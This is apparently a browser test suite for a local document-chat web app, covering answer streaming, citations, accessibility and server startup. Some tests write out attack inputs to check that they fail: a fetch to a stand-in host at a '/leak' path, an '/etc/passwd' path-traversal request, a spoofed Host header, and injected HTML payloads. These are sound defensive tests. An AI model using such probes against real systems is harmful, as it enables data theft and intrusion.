"""The chat in a real Chromium, with a scripted assistant; and ``serve`` as a process of its own."""

import http.client
import os
import re
import signal
import socket
import subprocess
import sys
import threading
from dataclasses import replace
from pathlib import Path

import pytest
from axe import violations
from browser import (
    CARDIFF,
    COMMAND,
    FOLLOW_UP,
    NOWHERE,
    PAYLOADS,
    POISONED,
    PRINCIPLES,
    VENUE,
    ScriptedAssistant,
    in_browser,
    running_chat,
    watched_page,
)

from rag.config import Config
from rag.errors import ConfigError, ModelMissing
from ui import local
from ui.server import serve

ROOT = Path(__file__).resolve().parent.parent
LONG = replace(PRINCIPLES, question="Say it all, slowly.")
TWO_LINES = replace(PRINCIPLES, question="Where was\nit held?")


@pytest.fixture(scope="module")
def assistant():
    return ScriptedAssistant([VENUE, PRINCIPLES, COMMAND, POISONED, LONG, TWO_LINES, FOLLOW_UP], pace=0.004)


@pytest.fixture(scope="module")
def address(assistant):
    with running_chat(lambda: assistant) as address:
        yield address


@pytest.fixture
def chat(browser, address, assistant):
    """A fresh page, which must have asked nobody else for anything and complained of nothing when the test is over."""
    assistant.pace = 0.004
    assistant.asked.clear()
    assistant.stopped.clear()
    with watched_page(browser, address) as watched:
        yield watched
        assert watched.foreign == []
        assert watched.errors == []


def in_view(locator) -> bool:
    return locator.evaluate(
        "e => { const r = e.getBoundingClientRect(); return r.top >= 0 && r.bottom <= innerHeight }"
    )


class TestConversation:
    pytestmark = in_browser

    def test_an_answer_streams_and_its_mark_opens_the_passage(self, chat, assistant):
        assistant.pace = 0.03
        page = chat.page
        chat.ask(VENUE.question)
        page.locator(".draft").wait_for()
        draft = page.locator(".draft").inner_text()
        assert VENUE.sentences[0].text.startswith(draft[:10])
        assert page.locator(".answer").count() == 0
        assert page.get_by_role("button", name="Stop").is_visible()
        assert not page.get_by_role("button", name="Ask").is_visible()
        assert page.get_by_label("Your question").input_value() == ""
        chat.answer()
        assert page.locator(".draft").count() == 0
        mark = page.get_by_role("button", name="Source 2: Cardiff Co-production Roadshow")
        panel, source = page.get_by_role("region", name="Sources"), page.locator(".panel .piece.current")
        assert not panel.is_visible()
        mark.click()
        quoted = source.locator("mark.current")
        assert quoted.inner_text() == VENUE.citations[1].quote
        assert in_view(quoted)
        assert "11 March 2011" in source.inner_text() and "page 1" in source.inner_text()
        assert source.locator(".around").nth(1).inner_text().strip().startswith("We asked the attendees")
        assert page.get_by_text("3.4 s").is_visible()
        assert page.get_by_role("button", name="Ask").is_visible()
        assert page.title() == "Footnote"

    def test_the_evidence_works_by_keyboard(self, chat):
        page = chat.page
        chat.ask(VENUE.question)
        chat.answer()
        mark = page.get_by_role("button", name="Source 1: Cardiff Co-production Roadshow")
        mark.focus()
        page.keyboard.press("Enter")
        assert page.locator(":focus").evaluate("e => e.closest('.piece').dataset.mark") == "1 2"
        page.keyboard.press("Tab")
        assert page.locator(":focus").inner_text().startswith("Open the document here")
        page.keyboard.press("Escape")
        assert not page.locator(".panel").is_visible()
        assert page.locator(":focus").get_attribute("aria-label") == "Source 1: Cardiff Co-production Roadshow"
        page.locator(".sources button").nth(1).press("Enter")
        page.get_by_role("button", name="Close sources").press("Enter")
        assert not page.locator(".panel").is_visible()
        assert page.locator(":focus").get_attribute("data-opens") == "2"

    def test_a_mark_shows_its_quote_to_the_pointer_and_to_the_keyboard(self, chat):
        page, hint = chat.page, chat.page.get_by_role("tooltip")
        chat.ask(VENUE.question)
        chat.answer()
        mark = page.locator("button.mark").first
        mark.hover()
        assert hint.inner_text() == f"{CARDIFF.title}\n“{VENUE.citations[0].quote}”"
        assert hint.evaluate(
            "e => { const r = e.getBoundingClientRect(); return r.left >= 0 && r.right <= innerWidth }"
        )
        page.mouse.move(5, 5)
        assert not hint.is_visible()
        mark.focus()
        assert hint.is_visible() and mark.get_attribute("aria-describedby") == hint.get_attribute("id")
        page.keyboard.press("Escape")
        assert not hint.is_visible()

    def test_the_sources_of_an_old_turn_stay_with_it(self, chat):
        page = chat.page
        for number, question in enumerate((VENUE.question, PRINCIPLES.question), 1):
            chat.ask(question)
            chat.answer(number)
        for number, answer in ((1, VENUE), (2, PRINCIPLES), (1, VENUE)):
            page.locator(f".exchange:nth-child({number}) button.mark").nth(1).click()
            quotes = page.locator(".panel .piece mark").all_inner_texts()
            assert quotes == [citation.quote for citation in answer.citations]

    def test_code_is_set_as_code(self, chat):
        chat.ask(COMMAND.question)
        chat.answer()
        answer = chat.page.locator(".exchange .answer")
        assert answer.locator("p code").all_inner_texts() == ["sbatch job.sh"]
        assert answer.locator("pre").inner_text() == "sbatch -M smp job.sh\n* done"
        assert answer.locator("strong").inner_text() == "smp" and "`" not in answer.inner_text()
        assert answer.locator("button.mark").count() == 2

    def test_the_document_opens_at_the_quote(self, chat):
        page = chat.page
        chat.ask(VENUE.question)
        chat.answer()
        page.locator("button.mark").nth(1).click()
        with page.expect_popup() as popup:
            page.locator(".panel .piece.current .origin.current a").click()
        reader = popup.value
        assert reader.locator("mark").inner_text() == VENUE.citations[1].quote
        assert in_view(reader.locator("mark"))
        assert "Cardiff Co-production Roadshow" in reader.get_by_role("heading", level=1).inner_text()
        reader.close()

    def test_in_german(self, browser, address):
        with watched_page(browser, address, locale="de-DE") as watched:
            page = watched.page
            watched.ask("What is the capital of Mongolia?", "Ihre Frage")
            watched.answer()
            assert page.get_by_role("heading", name="Die Dokumente beantworten das nicht").is_visible()
            assert page.get_by_role("button", name="Fragen", exact=True).is_visible()
            assert violations(page) == []
            assert page.locator("html").get_attribute("lang") == "de"
            assert (watched.foreign, watched.errors) == ([], [])

    def test_the_phases_are_said_and_then_the_answer_once(self, chat, assistant):
        assistant.pace = 0.02
        page = chat.page
        page.evaluate(
            """() => {
                window.said = []
                const place = document.querySelector('#talk .said')
                new MutationObserver(() => window.said.push(place.textContent)).observe(place, {childList: true})
            }"""
        )
        assert page.locator("#talk .said").get_attribute("aria-live") == "polite"
        chat.ask(VENUE.question)
        chat.answer()
        said = page.evaluate("window.said")
        assert said[-1].startswith("It was held at the Cardiff Millennium Centre.")
        assert said[-1].endswith("1 source")
        phases = [text for text in said[:-1] if text not in ("", "Starting")]  # it may be emptied in between
        assert phases == [
            "Searching 42 passages",
            "Reading 1 passage",
            "Writing",
            "Checking each sentence against the documents",
        ]

    def test_what_a_reader_has_unfolded_stays_so_while_the_next_answer_comes(self, chat, assistant):
        page = chat.page
        chat.ask(VENUE.question)
        chat.answer()
        page.get_by_role("button", name="Source 1").click()
        chat.ask(PRINCIPLES.question)
        chat.answer(2)
        assert page.locator(".panel mark.current").inner_text() == VENUE.citations[0].quote
        assert page.locator(".exchange:nth-child(2) .sources button").count() == 6
        assert page.locator(".exchange:nth-child(2) .answer li").count() == 6
        assert [turn.content for turn in assistant.asked[1][1]] == [VENUE.question, VENUE.answer]

    def test_a_follow_up_shows_what_was_searched_for_and_can_be_searched_as_typed(self, chat, assistant):
        page = chat.page
        for number, question in enumerate((VENUE.question, FOLLOW_UP.question), 1):
            chat.ask(question)
            chat.answer(number)
        assert page.locator(".exchange:nth-child(1) .searched").count() == 0
        searched = page.locator(".exchange:nth-child(2) .searched")
        assert searched.locator("q").inner_text() == FOLLOW_UP.query
        page.get_by_role("button", name="Search for exactly what I typed").press("Enter")
        chat.answer(3)
        assert assistant.asked[2] == (FOLLOW_UP.question, ())
        assert page.locator(".searched").count() == 1

    def test_an_abstention(self, chat):
        page = chat.page
        chat.ask("What is the capital of Mongolia?")
        chat.answer()
        assert page.get_by_role("heading", name="The documents do not answer this").is_visible()
        assert page.get_by_text("They nowhere mention “Mongolia”.").first.is_visible()
        assert page.get_by_role("heading", name="Closest passages (may not contain the answer)").is_visible()
        nearest = page.locator(".source").nth(1)
        nearest.locator("button").click()
        passage = page.locator(".panel .piece.current .passage").inner_text()
        assert " ".join(CARDIFF.text.split()) in " ".join(passage.split())
        assert page.locator("button.mark, mark").count() == 0

    def test_stop_ends_the_answer_and_the_next_question_is_answered(self, chat, assistant):
        assistant.pace = 0.05
        page = chat.page
        chat.ask(LONG.question)
        page.get_by_text(LONG.sentences[1].text[:20]).first.wait_for()
        page.get_by_role("button", name="Stop").click()
        assert assistant.stopped.wait(60)
        chat.answer()
        assert page.get_by_text("Stopped early. The part written so far was checked.").is_visible()
        assert 1 <= page.locator("button.mark").count() < 6
        assistant.pace = 0.001
        chat.ask(VENUE.question)
        chat.answer(2)
        assert page.locator(".exchange:nth-child(2) button.mark").count() == 2

    def test_who_waits_sees_how_many_are_ahead(self, chat, browser, address, assistant):
        assistant.pace = 0.2
        chat.ask(LONG.question)
        chat.page.locator(".draft").wait_for()
        with watched_page(browser, address) as other:
            other.ask(VENUE.question)
            other.page.locator(".activity").get_by_text("Waiting: 1 question ahead of yours").wait_for()
            assert violations(chat.page) == violations(other.page) == []
            assistant.pace = 0.001
            chat.page.get_by_role("button", name="Stop").click()
            other.answer()
            assert other.page.locator("button.mark").count() == 2

    def test_a_page_that_hears_nothing_for_a_while_waits_for_what_is_still_coming(self, chat, assistant):
        page = chat.page
        page.clock.install()
        page.reload()
        assistant.pace = 0.5
        chat.ask(LONG.question)
        page.locator(".draft").wait_for()
        with page.expect_response(lambda reply: reply.request.method == "POST") as asked:
            page.clock.fast_forward(60_000)
        assert asked.value.ok
        before = page.locator(".draft").inner_text()
        page.wait_for_function(
            "before => document.querySelector('.draft').innerText.length > before.length", arg=before
        )
        page.get_by_role("button", name="Stop").click()
        chat.answer()

    def test_on_a_phone_the_mark_stays_in_sight_above_its_source(self, browser, address):
        with watched_page(browser, address, 390, 800) as phone:
            phone.ask(VENUE.question)
            phone.answer()
            mark = phone.page.locator("button.mark").nth(1)
            mark.click()
            mark, panel = mark.bounding_box(), phone.page.locator(".panel").bounding_box()
            assert mark["y"] >= 0 and mark["y"] + mark["height"] <= panel["y"]
            assert in_view(phone.page.locator(".panel mark.current"))

    def test_leaving_the_page_stops_the_answer(self, browser, address, assistant):
        assistant.pace = 0.1
        assistant.stopped.clear()
        with watched_page(browser, address) as watched:
            watched.ask(LONG.question)
            watched.page.locator(".draft").wait_for()
        assert assistant.stopped.wait(60)

    def test_shift_enter_is_a_new_line(self, chat, assistant):
        page, box = chat.page, chat.page.get_by_label("Your question")
        box.press_sequentially("Where was")
        box.press("Shift+Enter")
        box.press_sequentially("it held?")
        assert box.input_value() == TWO_LINES.question
        assert page.locator(".exchange").count() == 0
        box.press("Enter")
        chat.answer()
        assert [question for question, _ in assistant.asked] == [TWO_LINES.question]
        assert page.locator(".question br").count() == 1

    def test_a_question_of_nothing_is_not_sent(self, chat, assistant):
        chat.ask("   ")
        chat.page.get_by_role("button", name="Ask").click()
        chat.page.wait_for_timeout(300)
        assert chat.page.locator(".exchange").count() == 0
        assert assistant.asked == []

    def test_a_new_conversation_begins_with_nothing(self, chat, assistant):
        page = chat.page
        assert page.get_by_role("button", name="New conversation").count() == 0
        chat.ask(VENUE.question)
        chat.answer()
        assert not page.locator("#start").is_visible()
        page.get_by_role("button", name="New conversation").click()
        page.locator("#start").wait_for()
        assert page.locator(".exchange").count() == 0
        chat.ask(PRINCIPLES.question)
        chat.answer()
        assert assistant.asked[1][1] == ()

    def test_the_focus_stays_where_one_types(self, chat):
        page = chat.page
        assert page.locator(":focus").get_attribute("placeholder") == "Ask a question about your documents"
        page.get_by_label("Your question").fill(VENUE.question)
        page.get_by_role("button", name="Ask").focus()
        page.keyboard.press("Enter")
        chat.answer()
        page.wait_for_function("document.activeElement.tagName === 'TEXTAREA'")

    def test_two_visitors_have_two_conversations(self, chat, browser, address):
        with watched_page(browser, address) as other:
            chat.ask(VENUE.question)
            other.ask("What is the capital of Mongolia?")
            chat.answer()
            other.answer()
            assert chat.page.locator(".question").all_inner_texts()[0].endswith(VENUE.question)
            assert chat.page.locator(".exchange").count() == other.page.locator(".exchange").count() == 1
            assert other.page.get_by_role("heading", name="The documents do not answer this").is_visible()


class TestNothingSlipsIn:
    pytestmark = in_browser

    def test_nothing_in_a_question_a_document_or_a_reply_is_interpreted(self, chat):
        page = chat.page
        chat.ask(POISONED.question)
        chat.answer()
        for mark in page.locator("button.mark").all():
            mark.click()
        page.wait_for_timeout(300)
        assert page.evaluate("window.hacked") is None
        assert (
            page.locator("#talk")
            .locator("script, img, iframe, form, a:not(.open, .link), input, style, link, base, video, math")
            .count()
            == 0
        )
        question, answer = page.locator(".question").inner_text(), page.locator(".answer").inner_text()
        passages = page.locator(".panel .passage").all_inner_texts()
        titles = page.locator(".panel .title").all_inner_texts()
        for n, payload in enumerate(PAYLOADS):
            assert payload in question
            assert payload.strip("`") in answer  # what is between backticks is set as code
            assert payload == passages[n]
            assert payload == titles[n]
        assert page.url == chat.address

    def test_the_browser_refuses_to_talk_to_others_even_if_something_did(self, chat):
        page = chat.page
        outcome = page.evaluate(
            """async () => {
                const refused = new Promise(done =>
                    document.addEventListener('securitypolicyviolation', e => done(e.blockedURI)))
                try { await fetch('http://203.0.113.1/leak') } catch { return await refused }
            }"""
        )
        assert outcome.startswith("http://203.0.113.1/")
        chat.errors.clear()  # The console reports the refusal.
        chat.foreign.clear()

    def test_a_failed_load_is_said_in_the_page_and_mended_by_the_next_question(self, browser):
        missing = ModelMissing("The <b>model</b> is missing; run 'footnote models pull'.")
        there = threading.Event()

        def load():
            if not there.is_set():
                raise missing
            return ScriptedAssistant([VENUE], 0.001)

        with running_chat(load) as address, watched_page(browser, address) as chat:
            problem = chat.page.locator("#state").get_by_text(str(missing))
            problem.wait_for()
            chat.ask(VENUE.question)
            chat.answer()  # At once, as nothing was done for it.
            assert chat.page.locator(".reply.failed .calm").inner_text().split("\n")[-1] == str(missing)
            assert violations(chat.page) == []
            there.set()
            chat.ask(VENUE.question)
            chat.answer(2)
            problem.wait_for(state="detached")
            assert chat.page.locator("button.mark").count() == 2
            assert (chat.foreign, chat.errors) == ([], [])

    def test_the_page_is_there_while_the_models_load(self, browser):
        gate = threading.Event()

        def load():
            gate.wait(60)
            return ScriptedAssistant([VENUE], 0.001)

        with running_chat(load) as address, watched_page(browser, address) as chat:
            chat.page.locator("#state").get_by_text("loading the language model").wait_for()
            chat.ask(VENUE.question)
            chat.page.locator(".activity").get_by_text("loading the language model").wait_for()
            gate.set()
            chat.answer()
            chat.page.locator("#state .loading").wait_for(state="detached")

    @pytest.mark.parametrize("dark", [False, True])
    @pytest.mark.parametrize("width", [390, 1280])
    def test_text_is_readable_and_fits(self, browser, address, width, dark):
        with watched_page(browser, address, width, 800, dark) as chat:
            page = chat.page
            chat.ask(VENUE.question)
            chat.answer()
            page.get_by_role("button", name="Source 1").click()
            contrasts = page.evaluate(CONTRASTS)
            page.keyboard.press("Escape")
            chat.ask("What is the capital of Mongolia?")
            chat.answer(2)
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            assert not page.locator("footer").is_visible()
            contrasts |= page.evaluate(CONTRASTS)
            assert len(contrasts) > 15
            assert {text: ratio for text, ratio in contrasts.items() if ratio < 4.5} == {}


CONTRASTS = """() => {
    const parse = colour => colour.match(/[\\d.]+/g).map(Number)
    const linear = v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4
    const light = ([r, g, b]) => 0.2126 * linear(r / 255) + 0.7152 * linear(g / 255) + 0.0722 * linear(b / 255)
    const behind = element => {
        for (let e = element; e; e = e.parentElement) {
            const colour = parse(getComputedStyle(e).backgroundColor)
            if (colour.length === 3 || colour[3] > 0) return colour
        }
        return [255, 255, 255]
    }
    const found = {}
    for (const element of document.querySelectorAll('#head *, #talk *, #ask button, #ask textarea')) {
        const own = [...element.childNodes].some(n => n.nodeType === 3 && n.textContent.trim())
        if (!own && element.tagName !== 'TEXTAREA') continue
        if (!element.checkVisibility() || element.closest('.hidden')) continue
        const [a, b] = [light(parse(getComputedStyle(element).color)), light(behind(element))]
        found[element.tagName + '.' + element.className + ': ' + element.textContent.trim().slice(0, 40)] =
            (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)
    }
    return found
}"""


# --- serve, as a process


PROGRAM = """
import sys
sys.path.insert(0, "tests")
from pathlib import Path
from browser import VENUE, ScriptedAssistant
from rag.config import Config
from rag.errors import FootnoteError
from ui.server import serve
try:
    serve(lambda: ScriptedAssistant([VENUE]), Config(index=Path("nowhere"), port=int(sys.argv[1])))
except FootnoteError as error:
    sys.exit(str(error))
"""


def start(port: int) -> subprocess.Popen:
    environment = {**os.environ, "HTTP_PROXY": "http://203.0.113.1:9", "http_proxy": "http://203.0.113.1:9"}
    return subprocess.Popen(
        [sys.executable, "-c", PROGRAM, str(port)], cwd=ROOT, env=environment, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip


def get(port: int, path: str = "/", host: str = "127.0.0.1") -> tuple[int, dict[str, str], str]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        connection.request("GET", path, headers={"Host": host})
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read().decode("utf-8", "replace")
    finally:
        connection.close()


def test_serve_prints_its_address_answers_and_ends_cleanly_with_ctrl_c():
    with start(0) as process:
        try:
            line = process.stdout.readline()
            port = int(re.fullmatch(r"The chat is at http://127\.0\.0\.1:(\d+)/\n", line)[1])
            status, headers, body = get(port)
            assert status == 200 and "Footnote" in body
            assert headers["content-security-policy"] == local.HEADERS["Content-Security-Policy"]
            assert get(port, host=f"localhost:{port}")[0] == 200
            assert get(port, host="evil.example")[0] == 400
            assert get(port, "/gradio_api/file=/etc/passwd")[0] in (403, 404)
            for page in ("/docs", "/openapi.json"):
                assert "swagger" not in get(port, page)[2].lower()
            stream = http.client.HTTPConnection("127.0.0.1", port, timeout=60)  # As an open page holds one.
            stream.request("GET", "/gradio_api/heartbeat/test")
            stream.getresponse().read1(10)
        finally:
            process.send_signal(signal.SIGINT)
            out, err = process.communicate(timeout=120)
        stream.close()
    assert (out, err) == ("", "")
    assert process.returncode == 0


def test_a_port_in_use_is_named_with_the_way_out():
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = other.getsockname()[1]
        with pytest.raises(
            ConfigError, match=rf"use port {port} on 127\.0\.0\.1 .*in use.*--port {port + 1}, or --port 0"
        ):
            serve(lambda: ScriptedAssistant([NOWHERE]), Config(port=port))


def test_a_host_that_is_not_ours_is_refused():
    with pytest.raises(ConfigError, match=r"203\.0\.113\.1"):
        local.listen("203.0.113.1", 0)
    with pytest.raises(ConfigError, match="--host"):
        local.listen("no such host", 0)


def test_the_address_is_one_that_a_browser_understands():
    for host, shown in [("127.0.0.1", r"http://127\.0\.0\.1:\d+/"), ("0.0.0.0", r"http://127\.0\.0\.1:\d+/")]:
        with local.listen(host, 0) as listener:
            assert re.fullmatch(shown, local.address(listener))


def test_no_module_of_the_page_but_one_imports_gradio():
    names = ", ".join(f"ui.{path.stem}" for path in (ROOT / "ui").glob("*.py") if path.stem != "page")
    code = f"import sys, {names}; print('gradio' in sys.modules, 'torch' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["False", "False"]


def test_the_header_fits_windows_of_every_width(browser, address):
    with watched_page(browser, address, 1280, 800, False, "es-ES") as chat:
        chat.page.locator("#question textarea").fill(VENUE.question)
        chat.page.keyboard.press("Enter")
        chat.page.locator(".exchange .acts").wait_for()
        for width in range(320, 1281, 60):
            chat.page.set_viewport_size({"width": width, "height": 800})
            edges = chat.page.locator("#head button:visible, #head a:visible").evaluate_all(
                "all => all.map(one => one.getBoundingClientRect().right)"
            )
            assert max(edges) <= width, width
